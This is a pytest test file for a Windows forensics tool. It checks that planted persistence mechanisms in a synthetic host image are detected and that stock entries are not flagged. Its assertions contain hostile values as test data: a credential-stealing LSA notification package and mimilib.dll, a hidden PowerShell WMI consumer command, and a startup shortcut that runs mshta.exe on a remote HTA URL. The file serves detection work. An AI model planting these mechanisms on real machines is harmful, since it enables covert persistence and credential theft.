"""One of each way of coming back, planted beside what Windows and products set up: all are found, the rest is quiet."""

from __future__ import annotations

import ast
import io
import json
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import Any

import LnkParse3
import pytest
from dissect.cim.cim import CIM
from dissect.database.ese import ESE

from docs import persistence as page
from forensics.artifacts.base import all_artifacts
from forensics.rules import load
from forensics.rules.autoruns import mechanisms
from testdata.expected import differences
from testdata.host import Host, scenario
from testdata.render import Files, render
from tests.conftest import ROOT
from tests.stories import Told, teller
from tests.testdata.hive_readers import Tree, any_parser

NAME = "persistence-planted"
DAY = datetime(2025, 2, 6, 4, tzinfo=UTC)
# What helps an entry or stands beside it: flags, the switch of a tool, the files that entries start.
HELPERS = {
    ("ifeo", "notepad.exe"), ("ifeo", "winword.exe"), ("service", "AnyDesk"), ("run_key", "Slack"),
}  # fmt: skip


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Told:
    return teller(tmp_path_factory)(NAME)


@pytest.fixture(scope="module")
def host() -> Host:
    return scenario(NAME)


@pytest.fixture(scope="module")
def files(host: Host) -> Files:
    return render(host)


def key_of(entry: dict[str, Any]) -> tuple[str, str, str]:
    return entry["mechanism"], entry["location"], entry["name"]


class TestTheStory:
    """What is expected was written from the scenario: this holds the one against the other."""

    def test_every_planted_moment_has_an_entry(self, host: Host) -> None:
        planted = {key.written for key in host.registry} | {item.created for item in (*host.tasks, *host.services)}
        planted |= {item.written for item in (*host.wmi, *host.services)} | {event.time for event in host.events}
        planted |= {file.birth for file in host.files if "\\Kit\\" not in file.path and "\\Public\\" not in file.path}
        moments = {moment for moment in planted if moment and DAY <= moment < DAY.replace(hour=8)}
        expected = {entry["first_seen"] for entry in page.planted() if entry["first_seen"]}
        # AnyDesk's service and program; the flag beside silent process exit.
        beside = {"2025-02-06T04:13:10.402118+00:00", "2025-02-06T04:13:08.402118+00:00",
                  "2025-02-06T04:22:30.402118+00:00"}  # fmt: skip
        assert {moment.isoformat() for moment in moments} == expected | beside

    def test_every_command_is_in_the_scenario(self, host: Host) -> None:
        texts = " ".join(_texts(host)).replace("/", "\\").casefold()
        for entry in page.planted():
            for part in entry["command"].replace("/", "\\").casefold().removeprefix("com handler ").split(" "):
                assert part.strip('"') in texts, entry

    def test_what_is_there_and_what_is_not(self, host: Host) -> None:
        there = {file.path.casefold() for file in host.files}
        for entry in page.planted():
            if not entry.get("target_exists"):
                assert entry["command"].casefold() not in there, entry

    def test_each_entry_stands_once(self) -> None:
        assert [key for key, count in Counter(map(key_of, page.planted())).items() if count > 1] == []


def _texts(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from (text for pair in value.items() for part in pair for text in _texts(part))
    elif isinstance(value, list | tuple):
        yield from (text for item in value for text in _texts(item))
    elif hasattr(value, "__dataclass_fields__"):
        yield from _texts(vars(value))


def test_the_story_comes_out(told: Told) -> None:
    assert differences(told.expected, told.document) == []
    assert (told.run.code, told.document["problems"]) == (0, [])


def test_all_that_is_planted_stands_out_and_nothing_else(told: Told) -> None:
    entries = told.document["persistence"]
    assert {key_of(entry) for entry in entries if entry["score"] > 40} == set(map(key_of, page.planted()))
    rest = [entry for entry in entries if entry["score"] <= 40]
    assert {(entry["mechanism"], entry["name"]): entry["score"] for entry in rest if entry["score"] > 20} == {}
    assert {(entry["mechanism"], entry["name"]) for entry in rest if entry["score"]} <= HELPERS
    assert len(rest) > 40
    assert all(entry["attack"] for entry in entries if entry["score"] > 40)


def test_what_is_not_there_is_not_told_to_be(told: Told, host: Host) -> None:
    there = {file.path.casefold() for file in host.files}
    folders = {"\\".join(path.split("\\")[:depth]) for path in there for depth in range(2, path.count("\\") + 1)}
    for entry in told.document["persistence"]:
        if entry["name"] in ("DllDirectory", "windir"):
            assert entry["target_exists"] is (entry["target"].casefold() in folders), entry["target"]
            assert "folder" in entry["target_note"]
        elif entry["target_exists"]:
            assert entry["target"].casefold() in there, entry["target"]
            assert len(entry["target_sha256"]) == 64


def test_every_entry_that_scores_has_a_file_or_says_why_it_has_none(told: Told) -> None:
    entries = [entry for entry in told.document["persistence"] if entry["score"]]
    assert [entry["name"] for entry in entries if not entry["target"] and not entry["target_note"]] == []
    by_name = {(entry["mechanism"], entry["name"]): entry for entry in entries}
    assert by_name["lsa", "mimilib"]["target"] == "C:\\Windows\\System32\\mimilib.dll"
    assert by_name["boot_execute", "kitnative"]["target"] == "C:\\Windows\\System32\\kitnative.exe"
    assert by_name["office_addin", "Kit.Connect"]["target"] == "C:\\ProgramData\\Kit\\addin.vsto"
    assert by_name["cor_profiler", "COR_PROFILER"]["target"] == "C:\\ProgramData\\Kit\\profiler.dll"
    assert by_name["com", "{0A1B2C3D-0000-4000-8000-0000000000C2}"]["target"] == "C:\\ProgramData\\Kit\\class.dll"
    assert "script that the repository" in by_name["wmi", "KitScript"]["target_note"]
    assert by_name["lsa", "mimilib"]["target_exists"] is False


def test_who_made_them_is_told_apart_from_whom_they_run_as(told: Told) -> None:
    by_name = {entry["name"]: entry for entry in told.document["persistence"] if entry["score"] > 40}
    for name in ("\\Kit Update", "KitSvc", "KitBuild", "KitDrv"):
        entry = by_name[name]
        assert (entry["made_by"], entry["user"]) == ("sato", "SYSTEM")
        assert "4698 #" in entry["made_by_source"] or "4697 #" in entry["made_by_source"]
        assert entry["made_by_sid"].startswith("S-1-5-21-")
    assert by_name["\\Kit Update"]["first_seen_source"].endswith("the task was registered by sato")
    assert any(reason.startswith("PER-62") for reason in by_name["\\Kit Update"]["reasons"])
    assert by_name["KitConsumer"]["first_seen_source"].startswith("the WMI repository: its record was last written")
    assert by_name["KitConsumer"]["last_write_kind"] == "wmi"
    rows = told.run.lines("timeline.jsonl")
    seen = [row for row in rows if row.get("per_name") == "KitSvc"]
    assert {(row["username"], row["per_run_as"]) for row in seen} == {("sato", "SYSTEM")}
    nobody = [row for row in rows if row.get("per_name") == "mimilib"]
    assert nobody
    assert not any(row.get("username") for row in nobody)


def test_stock_entries_stand_beside_the_planted_ones(told: Told) -> None:
    by_mechanism = Counter(entry["mechanism"] for entry in told.document["persistence"] if not entry["score"])
    assert by_mechanism["service"] > 15
    assert {"run_key", "scheduled_task", "shell_extension", "startup_folder", "wmi"} <= set(by_mechanism)


def test_the_tool_of_administrators_is_told_as_information(told: Told) -> None:
    rules = {(finding["rule"], finding["level"]) for finding in told.document["findings"]}
    assert ("remote_tool.present", "informational") in rules
    assert {rule for rule, level in rules if level == "high"} >= {
        "credentials.notification_package", "powershell.encoded_loader",
    }  # fmt: skip


class TestIndependentReaders:
    """The bytes of the scenario, by parsers that know nothing of its writers."""

    @any_parser
    def test_hives(self, parse: Callable[[bytes], Tree], files: Files) -> None:
        system = parse(files["Windows/System32/config/SYSTEM"].data)
        _, values = system["ControlSet001\\Control\\Lsa"]
        assert values["Notification Packages"][1].decode("utf-16-le").split("\x00")[:2] == ["scecli", "mrsastealer"]
        user = parse(files["Users/sato/NTUSER.DAT"].data)
        _, run = user["Software\\Microsoft\\Windows\\CurrentVersion\\Run"]
        assert {"KitSync", "OneDrive"} <= set(run)
        assert "KitGone" not in run
        assert any(len(name) > 255 for name in run)

    def test_the_repository(self, files: Files) -> None:
        folder = "Windows/System32/wbem/Repository"
        index, objects, mapping = (
            io.BytesIO(files[f"{folder}/{name}"].data) for name in ("INDEX.BTR", "OBJECTS.DATA", "MAPPING1.MAP")
        )
        namespace = CIM(index, objects, [mapping]).root.namespace("subscription")
        found = {
            item.properties["Name"].value: item.properties["CommandLineTemplate"].value
            for item in namespace.class_("CommandLineEventConsumer").instances
        }
        assert found == {"KitConsumer": "powershell.exe -NoP -W Hidden -File C:\\ProgramData\\Kit\\wmi.ps1"}

    def test_the_queue(self, files: Files) -> None:
        table = ESE(io.BytesIO(files["ProgramData/Microsoft/Network/Downloader/qmgr.db"].data)).table("Jobs")
        blobs = [record.get("Blob") for record in table.records()]
        assert len(blobs) == 2
        assert ["C:\\ProgramData\\Kit\\done.exe".encode("utf-16-le") in blob for blob in blobs] == [False, True]

    def test_the_shortcut(self, files: Files) -> None:
        folder = "Users/sato/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
        link = LnkParse3.lnk_file(io.BytesIO(files[f"{folder}/KitLink.lnk"].data)).get_json()
        assert link["data"]["command_line_arguments"] == "http://192.0.2.7/k.hta"
        assert link["link_info"]["local_base_path"] == "C:\\Windows\\System32\\mshta.exe"


class TestEveryMechanism:
    """Each word that a row may have has a page entry, a rule and a planted example."""

    def test_words(self) -> None:
        words = emitted() | mechanisms() | set(load("persistence")["techniques"])
        words |= {item["mechanism"] for item in load("autostart_values")["values"]}
        assert len(words) > 55
        texts = page.yaml.safe_load(page.TEXTS.read_text(encoding="utf-8"))["mechanisms"]
        assert set(texts) == words
        assert {entry["mechanism"] for entry in page.planted()} == words

    @pytest.mark.parametrize("word", sorted({entry["mechanism"] for entry in page.planted()}))
    def test_the_row_is_whole(self, word: str) -> None:
        (row,) = [line for line in page.page().splitlines() if line.startswith(f"| `{word}` ")]
        cells = [cell.strip() for cell in row.strip("|").split(" | ")]
        assert len(cells) == 8
        assert all(cells), row
        names = {artifact.name for artifact in all_artifacts()}
        assert {name.strip("` ") for name in cells[3].split(",")} <= names

    def test_general_rules_alone_are_rare(self) -> None:
        """Mechanisms that every product uses have no rule that their mere presence would hit."""
        assert {word for word in mechanisms() | emitted() if not page.rules_of(word)} <= {"run_key"}

    def test_the_page_is_current(self) -> None:
        assert page.TARGET.read_text(encoding="utf-8") == page.page(), "run python -m docs.build"


def emitted() -> set[str]:
    """The words that the artifacts' source gives as a mechanism: constants at the places where rows are made."""
    found: set[str] = set()
    for path in sorted((ROOT / "forensics" / "artifacts").glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        constants = {
            node.targets[0].id: node.value.value
            for node in tree.body
            if isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant)
            if isinstance(node.targets[0], ast.Name)
        }
        for node in ast.walk(tree):
            for given in _given(node):
                value = given.value if isinstance(given, ast.Constant) else None
                value = constants.get(given.id) if isinstance(given, ast.Name) else value
                if isinstance(value, str):
                    found.add(value)
    return found


_POSITION = {"key_entry": 3, "file_entry": 1, "Entry": 0}


def _given(node: ast.AST) -> Iterator[ast.expr]:
    if isinstance(node, ast.Dict):
        for key, value in zip(node.keys, node.values, strict=True):
            if isinstance(key, ast.Constant) and key.value == "mechanism":
                yield value
    elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in _POSITION:
        at = _POSITION[node.func.id]
        if len(node.args) > at:
            yield node.args[at]


def test_expected_is_in_order() -> None:
    entries = page.planted()
    assert [entry["mechanism"] for entry in entries] == sorted(entry["mechanism"] for entry in entries)
    assert json.dumps(entries).count("2025-02-06") > 90
